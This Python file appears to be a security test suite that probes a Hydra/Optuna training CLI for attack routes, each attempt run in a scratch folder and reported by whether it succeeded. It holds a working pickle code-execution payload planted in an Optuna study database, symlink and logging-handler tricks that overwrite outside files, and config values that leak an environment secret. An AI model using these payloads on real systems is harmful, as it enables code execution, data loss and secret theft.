# ruff: noqa: E501, SIM115
"""More routes found while reading the source: sweeper params as a side door, Optuna's CMA-ES
pickle in a shared study, symlinks in the current folder, `resume` from a file."""

from __future__ import annotations

from b_targets import exp
from common import PY, contains_secret, copy_run, fresh, payload, report, train, write


def i01():
    """A shared sweep folder whose optuna.db holds CMA-ES state: a pickle (optuna's CmaEsSampler
    unpickles `cma:optimizer` system attrs of completed trials)."""
    import subprocess

    d = fresh("i01")
    mark = d / "MARK"
    sweep = d / "shared_sweep"
    sweep.mkdir()
    script = f"""
import optuna, pickle
class Boom:
    def __reduce__(self):
        return (exec, ({payload(mark)!r},))
hexed = pickle.dumps(Boom()).hex()
study = optuna.create_study(study_name="bayes", storage="sqlite:///{sweep}/optuna.db", direction="maximize")
try:
    from optuna.distributions import FloatDistribution
    F = lambda a, b: FloatDistribution(a, b, log=True)
except ImportError:  # optuna 2
    from optuna.distributions import LogUniformDistribution as F
dists = {{"lr": F(1e-4, 1e-1), "regularization.l2.weight_decay": F(1e-6, 1e-2)}}
for i in range(10):
    attrs = {{"cma:optimizer:0": hexed, "cma:n_restarts": 0}} if i == 9 else {{}}
    study.add_trial(optuna.trial.create_trial(params={{"lr": 1e-3 * (i + 1), "regularization.l2.weight_decay": 1e-4}},
        distributions=dists, value=0.5, system_attrs=attrs))
"""
    made = subprocess.run([PY, "-c", script], capture_output=True, text=True)
    if made.returncode:
        print(made.stderr[-400:])
    p = train(
        [
            "hparams_search=bayes",
            "hydra/sweeper/sampler=cmaes",
            f"hydra.sweep.dir={sweep}",
            "hydra.sweeper.n_trials=12",
        ],
        d,
        timeout=300,
    )
    report(
        "I01",
        "checkpoint",
        mark.exists(),
        "continue a shared sweep: `hparams_search=bayes hydra/sweeper/sampler=cmaes hydra.sweep.dir=<shared>` (optuna.db CMA pickle)",
        p,
    )


def i02():
    d = fresh("i02")
    victim = write(d / "victim" / "bashrc", "# victim rc\n")
    run = copy_run(d / "run")
    (d / "compare.png").symlink_to(victim)
    p = train(["compare", str(run), str(run)], d, cheap=False)
    report(
        "I02",
        "dataloss",
        victim.read_text(errors="replace") != "# victim rc\n",
        "`train compare A B` in a folder whose compare.png is a symlink to an outside file",
        p,
    )


def i03():
    d = fresh("i03")
    victim_run = copy_run(d / "victim_run")
    before = (victim_run / "checkpoints" / "last.pt").read_bytes()
    args = exp(d, f"resume: {victim_run}\nepochs: 3\n")
    p = train(args, d, cheap=False)
    report(
        "I03",
        "dataloss",
        (victim_run / "checkpoints" / "last.pt").read_bytes() != before,
        "experiment file sets resume=<another (victim's) run> + epochs: that run's checkpoints rewritten",
        p,
    )


def i04():
    d = fresh("i04")
    out = d / "victim" / "fmt.log"
    (d / "victim").mkdir()
    args = exp(
        d,
        f"""\
hydra:
  sweeper:
    params:
      ++hydra.job_logging.formatters.plain: "{{class: logging.FileHandler, format: '{out}', datefmt: a}}"
""",
    )
    p = train(["-m", *args, "seed=0"], d)
    report(
        "I04",
        "hydra",
        out.exists(),
        "sweeper params make a job_logging *formatter* of class logging.FileHandler (format=<outside path>)",
        p,
    )


def i05():
    d = fresh("i05")
    args = exp(
        d,
        """\
hydra:
  sweeper:
    params:
      trainer.devices: "2"
      +data.note: "${oc.env:ATTACK_SECRET}"
""",
    )
    p = train(["-m", *args, "seed=0"], d, timeout=300)
    report(
        "I05",
        "secret",
        bool(contains_secret(d)),
        "sweeper params: trainer.devices=2 (torchrun from a file) + ${oc.env:ATTACK_SECRET} on the ranks' command line",
        p,
    )


def i06():
    d = fresh("i06")
    victim = d / "victim"
    victim.mkdir()
    (d / "outputs").symlink_to(victim)
    p = train([], d)
    report(
        "I06",
        "hydra",
        any(victim.iterdir()),
        "plain `train` in a folder whose outputs/ is a symlink outside: the run is written there",
        p,
    )


def i07():
    d = fresh("i07")
    victim = d / "victim"
    victim.mkdir()
    args = exp(
        d,
        f"""\
hydra:
  sweeper:
    params:
      hydra.sweep.dir: {victim}
""",
    )
    p = train(["-m", *args, "seed=0"], d)
    report("I07", "hydra", any(victim.iterdir()), "sweeper params set hydra.sweep.dir=<abs outside> for the job", p)


def i08():
    d = fresh("i08")
    victim = write(d / "victim" / "x.txt", "v\n")
    args = exp(
        d,
        f"""\
hydra:
  sweeper:
    params:
      +hydra.job_logging.handlers.evil: "{{class: logging.FileHandler, filename: '{victim}', mode: w}}"
""",
    )
    p = train(["-m", *args, "seed=0"], d)
    report(
        "I08",
        "hydra",
        victim.read_text() != "v\n",
        "sweeper params add a job_logging handler writing an outside file (mode w)",
        p,
    )


def i09():
    d = fresh("i09")
    out = d / "victim" / "flt.log"
    (d / "victim").mkdir()
    args = exp(
        d,
        f"""\
hydra:
  sweeper:
    params:
      ++hydra.job_logging.filters.evil: "{{'()': logging.FileHandler, filename: '{out}'}}"
""",
    )
    p = train(["-m", *args, "seed=0"], d)
    report(
        "I09",
        "hydra",
        out.exists(),
        "sweeper params add a job_logging filter built as logging.FileHandler(<outside>)",
        p,
    )


def i10():
    d = fresh("i10")
    home = d / "torchhome"
    args = exp(d, "init_from: ResNet18_Weights.IMAGENET1K_V1\n")
    p = train(args, d, env={"TORCH_HOME": str(home)}, timeout=120)
    report(
        "I10",
        "target",
        home.exists(),
        "experiment file sets init_from=<torchvision weights name> (download: network + TORCH_HOME write)",
        p,
    )


def i11():
    d = fresh("i11")
    victim = d / "victim"
    write(victim / "config.yaml", "victim: config\n")
    write(victim / "resolved.yaml", "victim\n")
    prepared = d / "prepared"
    prepared.mkdir()
    (prepared / ".hydra").symlink_to(victim)
    (prepared / "resolved_config.yaml").symlink_to(victim / "resolved.yaml")
    args = exp(d, "hydra:\n  run:\n    dir: prepared\n")
    p = train(args, d)
    changed = (victim / "config.yaml").read_text() != "victim: config\n" or (
        victim / "resolved.yaml"
    ).read_text() != "victim\n"
    report(
        "I11",
        "dataloss",
        changed,
        "run.dir (from a file) = a prepared folder whose .hydra/ and resolved_config.yaml are symlinks outside",
        p,
    )


def i12():
    """As I01, with no choice of the victim's: the experiment file picks Optuna + CMA-ES and the
    (relative, allowed) sweep folder that holds the crafted study."""
    import subprocess

    d = fresh("i12")
    mark = d / "MARK"
    sweep = d / "shared_sweep"
    sweep.mkdir()
    script = I01_SCRIPT.format(mark=mark, sweep=sweep, study="trainer_cli", payload=payload(mark))
    made = subprocess.run([PY, "-c", script], capture_output=True, text=True)
    if made.returncode:
        print(made.stderr[-400:])
    args = exp(
        d,
        """\
defaults:
  - override /regularization: [l2]
  - override /hydra/sweeper: optuna
  - override /hydra/sweeper/sampler: cmaes
hydra:
  sweep:
    dir: shared_sweep
  sweeper:
    n_trials: 12
    params:
      lr: tag(log, interval(1e-4, 1e-1))
      regularization.l2.weight_decay: tag(log, interval(1e-6, 1e-2))
""",
    )
    p = train(["-m", *args], d, timeout=300)
    report(
        "I12",
        "checkpoint",
        mark.exists(),
        "`train -m --config-dir cfg experiment=x`: the experiment picks optuna+cmaes and a sweep folder holding a crafted optuna.db",
        p,
    )


I01_SCRIPT = """
import optuna, pickle
class Boom:
    def __reduce__(self):
        return (exec, ({payload!r},))
hexed = pickle.dumps(Boom()).hex()
study = optuna.create_study(study_name="{study}", storage="sqlite:///{sweep}/optuna.db", direction="maximize")
try:
    from optuna.distributions import FloatDistribution
    F = lambda a, b: FloatDistribution(a, b, log=True)
except ImportError:  # optuna 2
    from optuna.distributions import LogUniformDistribution as F
dists = {{"lr": F(1e-4, 1e-1), "regularization.l2.weight_decay": F(1e-6, 1e-2)}}
for i in range(10):
    attrs = {{"cma:optimizer:0": hexed, "cma:n_restarts": 0}} if i == 9 else {{}}
    study.add_trial(optuna.trial.create_trial(params={{"lr": 1e-3 * (i + 1), "regularization.l2.weight_decay": 1e-4}},
        distributions=dists, value=0.5, system_attrs=attrs))
"""


def i13():
    d = fresh("i13")
    args = exp(
        d,
        """\
hydra:
  sweeper:
    params:
      trainer.devices: "2"
      +data.note: '\\${oc.env:ATTACK_SECRET}'
""",
    )
    p = train(["-m", *args, "seed=0"], d, timeout=300)
    report(
        "I13",
        "secret",
        bool(contains_secret(d)),
        "sweeper params: trainer.devices=2 + an escaped \\${oc.env:ATTACK_SECRET}: the ranks' argv names the variable, so the ranks may read it",
        p,
    )


ATTEMPTS = [i13, i12, i10, i11, i01, i02, i03, i04, i05, i06, i07, i08, i09]
